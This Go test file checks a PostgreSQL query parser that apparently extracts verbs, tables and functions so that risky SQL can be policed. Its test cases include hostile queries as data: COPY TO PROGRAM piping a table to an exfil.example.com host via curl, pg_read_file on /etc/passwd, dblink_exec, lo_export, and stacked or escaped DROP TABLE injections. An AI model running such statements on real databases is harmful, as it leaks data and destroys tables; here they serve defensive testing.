package sqlfacts

import (
	"slices"
	"strings"
	"testing"

	"github.com/clawpatrol/clawpatrol/action"
)

func TestPostgres(t *testing.T) {
	type stmt struct {
		verb, text string
		program    bool
	}
	cases := []struct {
		name, query string
		verbs       []string
		tables      []string
		qualified   []string
		functions   []string
		statements  []stmt // checked when given
		unparseable bool
	}{
		{name: "select", query: "SELECT id, email FROM public.users WHERE id = 1",
			verbs: []string{"select"}, tables: []string{"users"}, qualified: []string{"public.users"},
			statements: []stmt{{verb: "select", text: "SELECT id, email FROM public.users WHERE id = 1"}}},
		{name: "select then drop", query: "SELECT 1; DROP TABLE t",
			verbs: []string{"select", "drop"}, tables: []string{"t"}, qualified: []string{"t"},
			statements: []stmt{{verb: "select", text: "SELECT 1"}, {verb: "drop", text: "DROP TABLE t"}}},
		{name: "DML in a CTE", query: "WITH gone AS (DELETE FROM audit RETURNING *) SELECT count(*) FROM gone",
			verbs: []string{"select", "delete"}, tables: []string{"audit"}, qualified: []string{"audit"}, functions: []string{"count"},
			statements: []stmt{{verb: "select", text: "WITH gone AS (DELETE FROM audit RETURNING *) SELECT count(*) FROM gone"}, {verb: "delete", text: "DELETE FROM audit RETURNING *"}}},
		{name: "a CTE name is no table, a qualified one is", query: "WITH t AS (SELECT 1) SELECT * FROM t, public.t",
			verbs: []string{"select"}, tables: []string{"t"}, qualified: []string{"public.t"}},
		{name: "recursive CTE", query: "WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r) SELECT * FROM r, real_table",
			verbs: []string{"select"}, tables: []string{"real_table"}, qualified: []string{"real_table"}},
		{name: "comments hide nothing and add nothing", query: "/* DROP TABLE x; */ SELECT 1 -- ; DELETE FROM y\n;",
			verbs: []string{"select"}, statements: []stmt{{verb: "select", text: "/* DROP TABLE x; */ SELECT 1 -- ; DELETE FROM y"}}},
		{name: "dollar quoting is a string", query: "SELECT $q$; DROP TABLE t; $q$",
			verbs: []string{"select"}},
		{name: "dollar quoting does not hide a statement", query: "SELECT $q$x$q$; DELETE FROM t",
			verbs: []string{"select", "delete"}, tables: []string{"t"}, qualified: []string{"t"}},
		{name: "function nested in a subquery", query: "SELECT * FROM (SELECT pg_catalog.pg_read_file('/etc/passwd')) s",
			verbs: []string{"select"}, functions: []string{"pg_read_file"}},
		{name: "table read inside a function argument", query: "SELECT length((SELECT secret FROM vault.keys LIMIT 1))",
			verbs: []string{"select"}, tables: []string{"keys"}, qualified: []string{"vault.keys"}, functions: []string{"length"}},
		{name: "function names are lower-case and unqualified", query: `SELECT "PG_READ_FILE"('x'), Pg_Ls_Dir('.')`,
			verbs: []string{"select"}, functions: []string{"pg_read_file", "pg_ls_dir"}},
		{name: "table function", query: "SELECT * FROM dblink('host=10.0.0.5', 'select 1') AS t(a int)",
			verbs: []string{"select"}, functions: []string{"dblink"}},
		{name: "dblink_exec", query: "SELECT dblink_exec('host=x', 'DROP TABLE t')",
			verbs: []string{"select"}, functions: []string{"dblink_exec"}},
		{name: "lo_export", query: "SELECT lo_export(16401, '/tmp/x')", verbs: []string{"select"}, functions: []string{"lo_export"}},
		{name: "lo_get", query: "select lo_get(16401)", verbs: []string{"select"}, functions: []string{"lo_get"}},
		{name: "copy to program", query: "COPY t TO PROGRAM 'curl -T - https://exfil.example.com'",
			verbs: []string{"copy"}, tables: []string{"t"}, qualified: []string{"t"},
			statements: []stmt{{verb: "copy", text: "COPY t TO PROGRAM 'curl -T - https://exfil.example.com'", program: true}}},
		{name: "copy from program", query: "copy t from program 'id'", verbs: []string{"copy"}, tables: []string{"t"}, qualified: []string{"t"},
			statements: []stmt{{verb: "copy", text: "copy t from program 'id'", program: true}}},
		{name: "copy to stdout", query: "COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)", verbs: []string{"copy"}, tables: []string{"t"}, qualified: []string{"t"},
			statements: []stmt{{verb: "copy", text: "COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)"}}},
		{name: "copy of a delete", query: "COPY (DELETE FROM t RETURNING *) TO STDOUT",
			verbs: []string{"copy", "delete"}, tables: []string{"t"}, qualified: []string{"t"}},
		{name: "explain analyze runs its statement", query: "EXPLAIN ANALYZE DELETE FROM t",
			verbs: []string{"explain", "delete"}, tables: []string{"t"}, qualified: []string{"t"},
			statements: []stmt{{verb: "explain", text: "EXPLAIN ANALYZE DELETE FROM t"}, {verb: "delete", text: "DELETE FROM t"}}},
		{name: "explain of a select", query: "EXPLAIN SELECT * FROM t", verbs: []string{"explain"}, tables: []string{"t"}, qualified: []string{"t"}},
		{name: "prepare carries its statement", query: "PREPARE p AS UPDATE t SET a = $1",
			verbs: []string{"prepare", "update"}, tables: []string{"t"}, qualified: []string{"t"}},
		{name: "select into creates a table", query: "SELECT * INTO copy_of_t FROM t",
			verbs: []string{"create"}, tables: []string{"copy_of_t", "t"}, qualified: []string{"copy_of_t", "t"}},
		{name: "quoted identifiers", query: `SELECT * FROM "Users" u JOIN Sales."Orders" o ON true`,
			verbs: []string{"select"}, tables: []string{"users", "orders"}, qualified: []string{"Users", "sales.Orders"}},
		{name: "insert from select", query: "INSERT INTO archive SELECT * FROM live WHERE old",
			verbs: []string{"insert"}, tables: []string{"archive", "live"}, qualified: []string{"archive", "live"}},
		{name: "update and merge", query: "UPDATE a SET x = 1; MERGE INTO b USING c ON b.id = c.id WHEN MATCHED THEN DELETE",
			verbs: []string{"update", "merge"}, tables: []string{"a", "b", "c"}, qualified: []string{"a", "b", "c"}},
		{name: "drop several", query: "DROP TABLE a, s.b CASCADE", verbs: []string{"drop"}, tables: []string{"a", "b"}, qualified: []string{"a", "s.b"}},
		{name: "drop function names no table", query: "DROP FUNCTION f(int)", verbs: []string{"drop"}},
		{name: "ddl", query: "CREATE TABLE n (id int); ALTER TABLE n ADD COLUMN x int; CREATE INDEX ON n (x); TRUNCATE n",
			verbs: []string{"create", "alter", "truncate"}, tables: []string{"n"}, qualified: []string{"n"}},
		{name: "grant and revoke", query: "GRANT SELECT ON t TO bob; REVOKE ALL ON t FROM bob",
			verbs: []string{"grant", "revoke"}, tables: []string{"t"}, qualified: []string{"t"}},
		{name: "transaction and settings", query: "BEGIN; SET search_path = x; SHOW search_path; RESET ALL; SAVEPOINT s; ROLLBACK TO s; COMMIT",
			verbs: []string{"begin", "set", "show", "reset", "savepoint", "rollback", "commit"}},
		{name: "call", query: "CALL do_things(1)", verbs: []string{"call"}, functions: []string{"do_things"}},
		{name: "utility verbs", query: "VACUUM t; ANALYZE t; LISTEN c; NOTIFY c; LOAD 'x'; DISCARD ALL; CHECKPOINT",
			verbs: []string{"vacuum", "analyze", "listen", "notify", "load", "discard", "checkpoint"}, tables: []string{"t"}, qualified: []string{"t"}},
		{name: "do block", query: "DO $$BEGIN PERFORM pg_read_file('x'); DELETE FROM t; EXECUTE 'DROP TABLE u'; END$$",
			verbs: []string{"do", "select", "delete", "drop"}, tables: []string{"t", "u"}, qualified: []string{"t", "u"}, functions: []string{"pg_read_file"},
			statements: []stmt{{verb: "do", text: "DO $$BEGIN PERFORM pg_read_file('x'); DELETE FROM t; EXECUTE 'DROP TABLE u'; END$$"},
				{verb: "select", text: "SELECT pg_read_file('x')"}, {verb: "delete", text: "DELETE FROM t"}, {verb: "drop", text: "DROP TABLE u"}}},
		{name: "do block expressions lend their facts", query: "DO $body$DECLARE n int; BEGIN n := (SELECT count(*) FROM secrets); IF n > lo_get(1) THEN RAISE NOTICE '%', n; END IF; END$body$",
			verbs: []string{"do"}, tables: []string{"secrets"}, qualified: []string{"secrets"}, functions: []string{"count", "lo_get"}},
		{name: "do block with copy to program", query: "DO 'BEGIN COPY t TO PROGRAM ''id''; END'",
			verbs: []string{"do", "copy"}, tables: []string{"t"}, qualified: []string{"t"},
			statements: []stmt{{verb: "do", text: "DO 'BEGIN COPY t TO PROGRAM ''id''; END'", program: true}, {verb: "copy", text: "COPY t TO PROGRAM 'id'", program: true}}},
		{name: "do block with a computed execute", query: "DO $$BEGIN EXECUTE 'DROP TABLE ' || 'u'; END$$", unparseable: true},
		{name: "do block in another language", query: "DO LANGUAGE plpython3u $$import os$$", unparseable: true},
		{name: "do block that does not compile", query: "DO $$BEGIN garbage here; END$$", unparseable: true},
		{name: "do blocks nested too deep", query: "DO $a$BEGIN EXECUTE 'DO $b$BEGIN EXECUTE ''DO $c$BEGIN EXECUTE ''''DO $d$BEGIN EXECUTE ''''''''DO $e$BEGIN NULL; END$e$''''''''; END$d$''''; END$c$''; END$b$'; END$a$", unparseable: true},
		{name: "unparseable", query: "SELEC garbage(", unparseable: true},
		{name: "one bad statement spoils the query", query: "SELECT 1; DROP TABLE", unparseable: true},
		{name: "empty", query: ""},
		{name: "only comments and semicolons", query: " ; -- nothing\n/* at all */ ;"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			q := Postgres(c.query)
			if q.Dialect != "postgres" || q.Statement != c.query {
				t.Errorf("dialect %q statement %q", q.Dialect, q.Statement)
			}
			if q.Unparseable != c.unparseable {
				t.Fatalf("unparseable = %v, want %v", q.Unparseable, c.unparseable)
			}
			check := func(what string, got, want []string) {
				t.Helper()
				if !slices.Equal(got, want) {
					t.Errorf("%s = %q, want %q", what, got, want)
				}
			}
			check("verbs", q.Verbs, c.verbs)
			check("tables", q.Tables, c.tables)
			check("qualified_tables", q.QualifiedTables, c.qualified)
			check("functions", q.Functions, c.functions)
			if c.statements != nil {
				var got []stmt
				for _, s := range q.Statements {
					got = append(got, stmt{verb: s.Verb, text: s.Text, program: s.Program})
				}
				if !slices.Equal(got, c.statements) {
					t.Errorf("statements = %+v, want %+v", got, c.statements)
				}
			}
		})
	}
}

func TestPostgresStatementFacts(t *testing.T) {
	q := Postgres("SELECT a FROM x; WITH d AS (DELETE FROM y RETURNING now()) SELECT * FROM d JOIN z USING (id)")
	want := []action.Statement{
		{Verb: "select", Tables: []string{"x"}, Text: "SELECT a FROM x"},
		{Verb: "select", Tables: []string{"y", "z"}, Functions: []string{"now"}, Text: "WITH d AS (DELETE FROM y RETURNING now()) SELECT * FROM d JOIN z USING (id)"},
		{Verb: "delete", Tables: []string{"y"}, Functions: []string{"now"}, Text: "DELETE FROM y RETURNING now()"},
	}
	if len(q.Statements) != len(want) {
		t.Fatalf("statements = %+v", q.Statements)
	}
	for i, s := range q.Statements {
		w := want[i]
		if s.Verb != w.Verb || s.Text != w.Text || !slices.Equal(s.Tables, w.Tables) || !slices.Equal(s.Functions, w.Functions) || s.Program {
			t.Errorf("statement %d = %+v, want %+v", i, s, w)
		}
	}
}

func TestDerivePostgres(t *testing.T) {
	t.Run("fills absent facts", func(t *testing.T) {
		a := &action.Action{Protocol: "sql", SQL: &action.SQL{Dialect: "postgres", Statement: "SELECT pg_read_file('/etc/passwd')"}}
		DerivePostgres(a)
		if !slices.Equal(a.SQL.Verbs, []string{"select"}) || !slices.Equal(a.SQL.Functions, []string{"pg_read_file"}) || len(a.SQL.Statements) != 1 {
			t.Errorf("derived %+v", a.SQL)
		}
	})
	t.Run("keeps stated facts", func(t *testing.T) {
		a := &action.Action{Protocol: "sql", SQL: &action.SQL{Dialect: "postgres", Statement: "DELETE FROM t", Verbs: []string{"select"}}}
		DerivePostgres(a)
		if !slices.Equal(a.SQL.Verbs, []string{"select"}) || !slices.Equal(a.SQL.Tables, []string{"t"}) {
			t.Errorf("derived %+v", a.SQL)
		}
	})
	t.Run("unparseable only when nothing is stated", func(t *testing.T) {
		a := &action.Action{Protocol: "sql", SQL: &action.SQL{Dialect: "postgres", Statement: "SELEC x("}}
		DerivePostgres(a)
		if !a.SQL.Unparseable {
			t.Error("not unparseable")
		}
		b := &action.Action{Protocol: "sql", SQL: &action.SQL{Dialect: "postgres", Statement: "SELEC x(", Verbs: []string{"select"}}}
		DerivePostgres(b)
		if b.SQL.Unparseable {
			t.Error("unparseable despite stated facts")
		}
	})
	t.Run("other dialects are left alone", func(t *testing.T) {
		a := &action.Action{Protocol: "sql", SQL: &action.SQL{Dialect: "mysql", Statement: "SELECT 1"}}
		DerivePostgres(a)
		if a.SQL.Verbs != nil {
			t.Errorf("derived %+v", a.SQL)
		}
		DerivePostgres(&action.Action{Protocol: "http"})
	})
}

func FuzzPostgres(f *testing.F) {
	for _, s := range []string{
		"SELECT 1; DROP TABLE t",
		"WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
		"DO $$BEGIN PERFORM pg_read_file('x'); EXECUTE 'DELETE FROM t'; END$$",
		"COPY t TO PROGRAM 'id'",
		"SELECT $q$;$q$, E'\\'', U&'\\0041' FROM \"T\"",
		"/* unterminated",
		"EXPLAIN ANALYZE WITH a AS (UPDATE t SET x = 1 RETURNING *) SELECT * INTO n FROM a",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, query string) {
		q := Postgres(query)
		if q.Unparseable {
			if q.Statements != nil || q.Verbs != nil {
				t.Fatalf("unparseable with facts: %+v", q)
			}
			return
		}
		verbs := map[string]bool{}
		for _, s := range q.Statements {
			if s.Verb == "" {
				t.Fatalf("statement without a verb: %+v", s)
			}
			verbs[s.Verb] = true
		}
		for _, v := range q.Verbs {
			if !verbs[v] {
				t.Fatalf("verb %q in no statement: %+v", v, q)
			}
		}
		for _, l := range [][]string{q.Tables, q.Functions} {
			for _, n := range l {
				if n != strings.ToLower(n) || n == "" {
					t.Fatalf("name %q is not lower-case", n)
				}
			}
		}
	})
}

func TestPostgresEscapes(t *testing.T) {
	for q, want := range map[string]bool{
		`SELECT 1`:                           false,
		`SELECT 'a\'; DROP TABLE t; --'`:     true,
		`SELECT x FROM t WHERE y ~ '^\d+$'`:  true,
		`SELECT E'a\'b'`:                     false,
		`SELECT $$a\b$$`:                     false,
		`SELECT "we\ird" FROM t -- back\ish`: false,
		`SELECT N'a\b'`:                      true,
		`SELECT 'unterminated\`:              true,
	} {
		if got := PostgresEscapes(q); got != want {
			t.Errorf("PostgresEscapes(%q) = %v, want %v", q, got, want)
		}
	}
}
